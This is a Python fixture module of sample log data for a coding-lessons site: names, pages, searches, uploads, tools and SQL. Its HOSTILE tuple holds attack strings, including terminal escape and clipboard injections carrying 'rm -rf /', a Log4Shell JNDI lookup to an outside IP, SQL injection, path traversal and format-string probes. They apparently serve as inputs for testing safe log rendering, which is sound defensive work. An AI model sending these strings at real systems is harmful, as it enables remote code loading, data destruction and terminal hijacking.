"""The names, titles and strings that turn up in the logs: as mixed in script and in intent as on a real server."""

from __future__ import annotations

USERS = (
    "ann.lee",
    "bob",
    "carla.mendes",
    "dmitri.ivanov",
    "łukasz.żółć",
    "zoë.brûlé",
    "山田さくら",
    "李小龙",
    "محمد",
    "ólafur",
    "priya.r",
    "tom",
    "ingrid🦙",
)

PAGES = (
    "/",
    "/lessons",
    "/lessons/{n}",
    "/lessons/{n}/quiz",
    "/notebooks/{n}",
    "/courses/python-101",
    "/courses/dane-i-łódź",
    "/profile",
    "/help",
    "/static/app.{n}.js",
    "/static/site.css",
)

SEARCHES = (
    "list comprehension",
    "async generator",
    "regex lookahead",
    "żółw grafika",
    "łódź podwodna",
    "データ 可視化",
    "שלום עולם",
    "what is a decorator?",
    "pandas groupby [sum]",
    "a=b&c=d",
    "naïve bayes",
    "🦙 llama",
)

TITLES = (
    "Sorting, step by step",
    "Zażółć gęślą jaźń",
    "Łódź: bus times",
    "機械学習ノート",
    "مرحبا بالعالم",
    "My 1st game 🎮",
    "CSV → chart",
    "Résumé parser",
    "[draft] primes",
    "Fibonacci / memo",
)

UPLOADS = (
    "łódź-notatki.md",
    "scores 2026.csv",
    "レポート.pdf",
    "holiday.jpg",
    "data[1].json",
    "nb.ipynb",
    "emoji 🦙.txt",
)

MODELS = ("llama3:8b", "llama3:70b", "phi:2.7b", "codellama:13b", "bielik:11b")

IMAGES = ("python:3.11", "python:3.12", "python:3.13", "node:22", "jupyter:2026.1")

AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) Firefox/144.0",
    "Mozilla/5.0 (Macintosh) AppleWebKit/605.1.15 Safari/18.6",
    "Mozilla/5.0 (Linux; Android 15) Chrome/142.0 Mobile",
    "curl/8.14.1",
    "python-httpx/0.28.1",
)

TOOLS = ("read_file", "write_file", "run_code", "search_docs", "list_lessons", "ask_user")

GOALS = (
    "write a bubble sort with tests",
    "explain this traceback",
    "plot temperatures in Łódź",
    "refactor quiz grader",
    "translate the lesson to 日本語",
    "find the bug in fib.py",
)

STATEMENTS = (
    "SELECT * FROM lessons WHERE course_id = ? ORDER BY position",
    "SELECT id, title FROM notebooks WHERE owner = ? LIMIT 50",
    "UPDATE notebooks SET body = ?, revision = revision + 1 WHERE id = ?",
    "SELECT count(*) FROM submissions WHERE lesson_id = ? AND passed",
    "INSERT INTO events (user_id, kind, at) VALUES (?, ?, ?)",
)

JOBS = ("thumbnail", "grade-submissions", "weekly-digest", "export-course", "prune-sessions", "sync-calendar")

HOSTILE = (
    "/\x1b]0;pwned\x07/login",
    "\x1b[2J\x1b[1;1Hall systems normal",
    "[/]",
    "[@click=app.quit]free credits[/]",
    "[bold red]not markup[/bold red]",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "admin\u202egnp.exe",
    "' OR 1=1 --",
    "${jndi:ldap://203.0.113.9/a}",
    "../../../../etc/passwd",
    "%s%s%s%n {0.__class__}",
    "\x9b31mred\x9b0m",
)
"""What strangers send to a server. No line breaks: in a text log they would be lines of their own."""
